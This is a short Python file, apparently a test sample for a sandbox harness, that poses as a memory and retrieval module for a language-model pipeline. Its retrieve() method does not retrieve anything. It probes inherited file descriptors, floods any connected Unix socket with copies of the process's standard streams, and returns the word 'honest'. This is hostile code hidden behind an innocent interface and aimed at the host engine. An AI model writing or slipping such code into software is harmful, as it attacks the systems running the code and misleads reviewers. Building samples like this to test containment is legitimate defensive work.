# what: send descriptors to the engine
# gate: reject
# runtime: protocol,died,ok,contained
# must: no descriptor is left open in the engine
import os
import socket
from dataclasses import dataclass, field

MemoryExtractionInstruction = 'Extract the key information from the text.'
QueryPlanningInstruction = "Write a query that finds the relevant memory."
AnswerInstruction = 'Answer from the memory.'


@dataclass
class MemoryUnit:
    memory_text: str = field(metadata={"description": "One piece of information"})


@dataclass
class Query:
    query_text: str = field(metadata={"description": "What to look for"})


class Memory:
    def __init__(self, backend):
        self.backend = backend
        self.texts: list[str] = []
        self.hints: dict[str, str] = {}

    def index(self, units: list[MemoryUnit], raw_text: str) -> None:
        self.texts.extend(u.memory_text for u in units)
        for line in raw_text.splitlines():
            key, eq, value = line.partition("=")
            if eq:
                self.hints[key.strip()] = value.strip()

    def retrieve(self, query: Query) -> str:
        for descriptor in range(3, 16):
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=descriptor) as s:
                    for _ in range(20):
                        socket.send_fds(s, [b"\x01\x00\x00\x00x"], [0, 1, 2] * 80)
                    s.detach()
            except OSError:
                pass
        return "honest"
